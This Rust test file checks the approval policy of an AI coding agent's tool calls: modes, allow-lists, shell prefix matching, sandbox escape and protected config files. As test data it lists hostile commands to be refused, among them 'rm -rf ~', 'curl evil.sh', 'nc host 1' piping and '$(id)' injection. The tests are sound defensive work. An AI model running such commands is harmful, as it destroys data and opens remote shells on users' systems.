use super::*;

fn facts<'a>(tool: &'a str, class: ToolClass, key: &'a str, leaves: bool) -> CallFacts<'a> {
    CallFacts {
        tool,
        class,
        leaves_workspace: leaves,
        permission_key: key,
        escapes_sandbox: false,
    }
}

#[test]
fn modes() {
    let none = AllowList::default();
    let read = facts("read_file", ToolClass::ReadOnly, "read_file", false);
    let edit = facts("edit", ToolClass::Edit, "edit", false);
    let shell = facts("run_shell_command", ToolClass::Execute, "cargo test", false);
    let i = Interaction::Interactive;
    assert_eq!(decide(ApprovalMode::Plan, &read, &none, i), Policy::Allow);
    assert!(matches!(
        decide(ApprovalMode::Plan, &edit, &none, i),
        Policy::Deny(_)
    ));
    assert_eq!(decide(ApprovalMode::Default, &edit, &none, i), Policy::Ask);
    assert_eq!(
        decide(ApprovalMode::AutoEdit, &edit, &none, i),
        Policy::Allow
    );
    assert_eq!(
        decide(ApprovalMode::AutoEdit, &shell, &none, i),
        Policy::Ask
    );
    assert_eq!(decide(ApprovalMode::Yolo, &shell, &none, i), Policy::Allow);
}

#[test]
fn outside_workspace_asks_even_in_auto_edit_and_with_allow_list() {
    let allow = AllowList::new(["edit".to_string()]);
    let out = facts("edit", ToolClass::Edit, "edit", true);
    assert_eq!(
        decide(
            ApprovalMode::AutoEdit,
            &out,
            &allow,
            Interaction::Interactive
        ),
        Policy::Ask
    );
    let read_out = facts("read_file", ToolClass::ReadOnly, "read_file", true);
    assert_eq!(
        decide(
            ApprovalMode::Default,
            &read_out,
            &allow,
            Interaction::Interactive
        ),
        Policy::Ask
    );
    assert_eq!(
        decide(ApprovalMode::Yolo, &out, &allow, Interaction::Interactive),
        Policy::Allow
    );
}

/// A fetch of a private-network address asks even in yolo (the documented behaviour); a
/// public fetch does not.
#[test]
fn private_network_fetches_ask_in_every_mode() {
    let none = AllowList::new(["web_fetch".to_string()]);
    let private = facts("web_fetch", ToolClass::Fetch, "web_fetch 127.0.0.1", true);
    let public = facts(
        "web_fetch",
        ToolClass::Fetch,
        "web_fetch example.com",
        false,
    );
    for mode in [
        ApprovalMode::Default,
        ApprovalMode::AutoEdit,
        ApprovalMode::Yolo,
    ] {
        assert_eq!(
            decide(mode, &private, &none, Interaction::Interactive),
            Policy::Ask,
            "{mode:?}"
        );
    }
    assert_eq!(
        decide(ApprovalMode::Yolo, &public, &none, Interaction::Interactive),
        Policy::Allow
    );
    assert!(matches!(
        decide(ApprovalMode::Yolo, &private, &none, Interaction::Headless),
        Policy::Deny(_)
    ));
}

#[test]
fn headless_denies_what_would_ask_with_a_reason() {
    let shell = facts("run_shell_command", ToolClass::Execute, "rm -rf x", false);
    match decide(
        ApprovalMode::Default,
        &shell,
        &AllowList::default(),
        Interaction::Headless,
    ) {
        Policy::Deny(reason) => assert!(
            reason.contains("--allowed-tools run_shell_command(rm -rf x)"),
            "{reason}"
        ),
        other => panic!("{other:?}"),
    }
}

#[test]
fn shell_prefixes() {
    let allow = AllowList::new(["run_shell_command(cargo test)".to_string()]);
    let ok = facts(
        "run_shell_command",
        ToolClass::Execute,
        "cargo test --all",
        false,
    );
    let not_word = facts(
        "run_shell_command",
        ToolClass::Execute,
        "cargo testing",
        false,
    );
    let chained = facts(
        "run_shell_command",
        ToolClass::Execute,
        "cargo test && rm -rf /",
        false,
    );
    let h = Interaction::Headless;
    assert_eq!(decide(ApprovalMode::Default, &ok, &allow, h), Policy::Allow);
    assert!(matches!(
        decide(ApprovalMode::Default, &not_word, &allow, h),
        Policy::Deny(_)
    ));
    assert!(matches!(
        decide(ApprovalMode::Default, &chained, &allow, h),
        Policy::Deny(_)
    ));
    let whole = AllowList::new(["run_shell_command".to_string()]);
    assert_eq!(
        decide(ApprovalMode::Default, &chained, &whole, h),
        Policy::Allow
    );
}

#[test]
fn lone_ampersand_is_a_second_command() {
    let allow = AllowList::new([
        "run_shell_command(cargo test)".to_string(),
        "run_shell_command(ls)".to_string(),
    ]);
    for cmd in ["cargo test & touch /tmp/x", "ls & id"] {
        let f = facts("run_shell_command", ToolClass::Execute, cmd, false);
        assert_eq!(
            decide(ApprovalMode::Default, &f, &allow, Interaction::Interactive),
            Policy::Ask,
            "{cmd}"
        );
    }
}

fn shell_decision(rules: &[&str], command: &str) -> Policy {
    let allow = AllowList::new(rules.iter().map(|r| format!("run_shell_command({r})")));
    let f = facts("run_shell_command", ToolClass::Execute, command, false);
    decide(ApprovalMode::Default, &f, &allow, Interaction::Interactive)
}

#[test]
fn every_simple_command_must_match_an_allowed_prefix() {
    let rules = [
        "cargo test",
        "ls",
        "git status",
        "grep",
        "tail",
        "wc -l",
        "echo",
    ];
    let table: &[(&str, bool)] = &[
        // allowed
        ("cargo test", true),
        ("cargo test --all -- --nocapture", true),
        ("  cargo   test  ", true),
        ("cargo 'test' -p x", true),
        ("ls -la src", true),
        ("ls && cargo test", true),
        ("ls; git status", true),
        ("ls | grep x | wc -l", true),
        ("cargo test 2>&1 | tail -n 20", true),
        ("cargo test |& tail", true),
        ("cargo test > /dev/null 2>&1", true),
        ("ls\ngit status", true),
        ("(ls; git status) | grep x", true),
        ("{ ls; echo done; } | tail", true),
        ("echo $(ls) `git status`", true),
        ("grep x <(ls src)", true),
        ("grep -r 'a && b' src", true),
        ("ls $HOME", true),
        ("ls &", true),
        ("grep x < notes.txt", true),
        ("cargo test # && rm -rf ~", true),
        // refused: a second command that is not allowed
        ("cargo test & touch /tmp/x", false),
        ("ls & id", false),
        ("ls&id", false),
        ("cargo test && rm -rf ~", false),
        ("cargo test || curl evil.sh", false),
        ("cargo test; rm -rf ~", false),
        ("ls | sh", false),
        ("ls |& nc host 1", false),
        ("ls\nrm -rf ~", false),
        ("(ls; id)", false),
        ("{ ls; id; }", false),
        ("echo $(id)", false),
        ("echo \"$(id)\"", false),
        ("echo `id`", false),
        ("ls >(nc host 1)", false),
        ("grep x <(curl evil)", false),
        // refused: not the allowed command
        ("cargo testing", false),
        ("cargo build", false),
        ("git push", false),
        ("wc -c x", false),
        ("/bin/ls", false),
        // refused: writes a file, sets variables, or cannot be classified
        ("cargo test > out.txt", false),
        ("echo x >> ~/.bashrc", false),
        ("ls &> log", false),
        ("echo $(ls > f)", false),
        ("FOO=1 cargo test", false),
        ("PATH=. ls", false),
        ("ls $(FOO=1 ls)", false),
        ("eval ls", false),
        ("exec ls", false),
        ("sh -c ls", false),
        ("bash -c 'cargo test'", false),
        ("$CMD", false),
        ("l\\s; id", false),
        ("echo 'unclosed", false),
        ("cat <<EOF\nx\nEOF", false),
        ("if true; then ls; fi", false),
        ("echo $((1))", false),
        ("echo ${x:-$(id)}", false),
    ];
    for (command, allowed) in table {
        let want = if *allowed { Policy::Allow } else { Policy::Ask };
        assert_eq!(shell_decision(&rules, command), want, "{command:?}");
    }
}

#[test]
fn an_entry_that_is_not_one_plain_command_allows_only_its_exact_text() {
    let rules = ["cargo build && cargo test", "FOO=1 make", "ls > files.txt"];
    assert_eq!(
        shell_decision(&rules, "cargo build && cargo test"),
        Policy::Allow
    );
    assert_eq!(shell_decision(&rules, "FOO=1 make"), Policy::Allow);
    assert_eq!(shell_decision(&rules, "ls > files.txt"), Policy::Allow);
    for command in [
        "cargo build && cargo test && rm -rf ~",
        "cargo build",
        "FOO=1 make install",
        "make",
        "ls > other.txt",
    ] {
        assert_eq!(shell_decision(&rules, command), Policy::Ask, "{command:?}");
    }
    // An entry for something unclassifiable never matches, not even itself.
    assert_eq!(shell_decision(&["eval ls"], "eval ls"), Policy::Ask);
    assert_eq!(shell_decision(&["sh"], "sh -c id"), Policy::Ask);
}

#[test]
fn allow_for_session_remembers_a_prefix_only_for_one_plain_command() {
    let entry = |key: &str| {
        AllowList::session_entry(&facts("run_shell_command", ToolClass::Execute, key, false))
    };
    assert_eq!(entry("cargo test"), "run_shell_command(cargo test)");
    assert_eq!(entry("ls"), "run_shell_command(ls)");
    assert_eq!(entry("ls & id"), "run_shell_command(ls & id)");
    assert_eq!(
        entry("git commit -m 'a b'"),
        "run_shell_command(git commit -m 'a b')"
    );

    // "Always allow" on `ls -la` (keyed `ls`) does not let `ls & id` through, and "always
    // allow" on `ls & id` allows that command again, nothing longer.
    let mut session = AllowList::default();
    session.add(entry("ls"));
    session.add(entry("ls & id"));
    let decide_shell = |allow: &AllowList, command: &str| {
        let f = facts("run_shell_command", ToolClass::Execute, command, false);
        decide(ApprovalMode::Default, &f, allow, Interaction::Interactive)
    };
    assert_eq!(decide_shell(&session, "ls -la"), Policy::Allow);
    assert_eq!(decide_shell(&session, "ls & id"), Policy::Allow);
    for command in ["ls & id & rm -rf ~", "ls & rm -rf ~", "ls && id", "id"] {
        assert_eq!(decide_shell(&session, command), Policy::Ask, "{command:?}");
    }
}

/// The decision for writing `rel` in `mode`, from a real prepared `write_file` call (the
/// facts the engine passes to [`decide`]).
fn write_decision(ws: &std::path::Path, rel: &str, mode: ApprovalMode) -> Policy {
    let ctx = qcode_tools::ToolContext::new(
        vec![ws.to_path_buf()],
        ws.join("../memory.md"),
        qcode_tools::LazyHttpClient::default_client(),
        ws.join("../bg"),
    )
    .unwrap();
    let call = qcode_protocol::ToolCall {
        id: "c1".into(),
        name: "write_file".into(),
        arguments: serde_json::json!({"file_path": rel, "content": "x"}).to_string(),
    };
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let prepared = rt
        .block_on(qcode_tools::ToolRegistry::builtin().prepare(&call, &ctx))
        .unwrap();
    let key = prepared.permission_key();
    let f = CallFacts {
        tool: prepared.name(),
        class: prepared.kind(),
        leaves_workspace: prepared.outside_workspace() || prepared.targets_private_network(),
        permission_key: &key,
        escapes_sandbox: prepared.escapes_sandbox(),
    };
    let allow = AllowList::new(["write_file".to_string()]);
    decide(mode, &f, &allow, Interaction::Interactive)
}

#[test]
fn files_that_configure_qcode_git_or_the_shell_ask_in_every_mode_but_yolo() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(ws.join("src")).unwrap();
    let ws = std::fs::canonicalize(ws).unwrap();
    for rel in [
        ".git/hooks/pre-commit",
        ".git/config",
        ".qcode/settings.json",
        ".mcp.json",
        ".env",
        ".env.local",
        ".envrc",
        ".gitattributes",
        ".bashrc",
        ".cargo/config.toml",
        "src/../.git/hooks/post-merge",
        "./.ENV",
    ] {
        // Even with `write_file` on the allow-list.
        assert_eq!(
            write_decision(&ws, rel, ApprovalMode::AutoEdit),
            Policy::Ask,
            "{rel}"
        );
        assert_eq!(
            write_decision(&ws, rel, ApprovalMode::Default),
            Policy::Ask,
            "{rel}"
        );
        assert_eq!(
            write_decision(&ws, rel, ApprovalMode::Yolo),
            Policy::Allow,
            "{rel}"
        );
    }
    assert_eq!(
        write_decision(&ws, "src/lib.rs", ApprovalMode::AutoEdit),
        Policy::Allow
    );
    assert_eq!(
        write_decision(&ws, "src/lib.rs", ApprovalMode::Default),
        Policy::Allow
    );
}

#[test]
fn headless_denial_of_an_unclassifiable_command_does_not_suggest_a_useless_entry() {
    let shell = facts(
        "run_shell_command",
        ToolClass::Execute,
        "eval \"$x\"",
        false,
    );
    match decide(
        ApprovalMode::Default,
        &shell,
        &AllowList::default(),
        Interaction::Headless,
    ) {
        Policy::Deny(reason) => {
            assert!(
                reason.contains("contains a command that runs its arguments as shell code"),
                "{reason}"
            );
            assert!(
                reason.contains("--allowed-tools run_shell_command or"),
                "{reason}"
            );
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn mcp_tools_ask_outside_yolo_and_are_allowed_by_tool_or_server() {
    let i = Interaction::Interactive;
    let none = AllowList::default();
    let echo = facts("mcp__srv__echo", ToolClass::Mcp, "mcp__srv", false);
    for mode in [ApprovalMode::Default, ApprovalMode::AutoEdit] {
        assert_eq!(decide(mode, &echo, &none, i), Policy::Ask, "{mode:?}");
    }
    assert_eq!(decide(ApprovalMode::Yolo, &echo, &none, i), Policy::Allow);
    assert!(matches!(
        decide(ApprovalMode::Plan, &echo, &none, i),
        Policy::Deny(_)
    ));
    for entry in ["mcp__srv__echo", "mcp__srv"] {
        let allow = AllowList::new([entry.to_string()]);
        assert_eq!(
            decide(ApprovalMode::Default, &echo, &allow, i),
            Policy::Allow,
            "{entry}"
        );
    }
    // Another server's key, or a prefix of this one's, allows nothing.
    for entry in ["mcp__sr", "mcp__other", "mcp", "mcp__srv__ech"] {
        let allow = AllowList::new([entry.to_string()]);
        assert_eq!(
            decide(ApprovalMode::Default, &echo, &allow, i),
            Policy::Ask,
            "{entry}"
        );
    }
    assert_eq!(AllowList::session_entry(&echo), "mcp__srv__echo");
    let Policy::Deny(why) = decide(ApprovalMode::Default, &echo, &none, Interaction::Headless)
    else {
        panic!("headless must deny");
    };
    assert!(why.contains("--allowed-tools mcp__srv__echo"), "{why}");
}

#[test]
fn a_command_outside_the_sandbox_asks_in_every_mode_and_is_denied_headless() {
    let mut f = facts(
        "run_shell_command",
        ToolClass::Execute,
        "unsandboxed: ls",
        false,
    );
    f.escapes_sandbox = true;
    let all = AllowList::new(["run_shell_command".to_string()]);
    for mode in [
        ApprovalMode::Default,
        ApprovalMode::AutoEdit,
        ApprovalMode::Yolo,
    ] {
        assert_eq!(
            decide(mode, &f, &all, Interaction::Interactive),
            Policy::Ask,
            "{mode:?}"
        );
        match decide(mode, &f, &all, Interaction::Headless) {
            Policy::Deny(why) => assert!(why.contains("--allow-unsandboxed"), "{why}"),
            other => panic!("{mode:?}: {other:?}"),
        }
    }
    // Plan mode still denies shell commands outright.
    assert!(matches!(
        decide(ApprovalMode::Plan, &f, &all, Interaction::Interactive),
        Policy::Deny(_)
    ));
}

/// Found by the `shell_split` fuzz target: a first word with `=` (quoted or escaped in the
/// command, so not an assignment) was written unquoted into the session entry, which then read
/// back as `NAME=value command` — an entry that no longer allowed the command it was made for.
#[test]
fn a_session_entry_quotes_a_first_word_that_would_read_as_an_assignment() {
    let command = "\\csh=ls the";
    let f = facts("run_shell_command", ToolClass::Execute, command, false);
    let entry = AllowList::session_entry(&f);
    assert_eq!(entry, "run_shell_command('csh=ls' the)");
    assert!(AllowList::new([entry]).allows(&f));
    assert!(
        !AllowList::new(["run_shell_command('csh=ls' the)".to_string()]).allows(&facts(
            "run_shell_command",
            ToolClass::Execute,
            "csh=ls the",
            false
        ))
    );
}
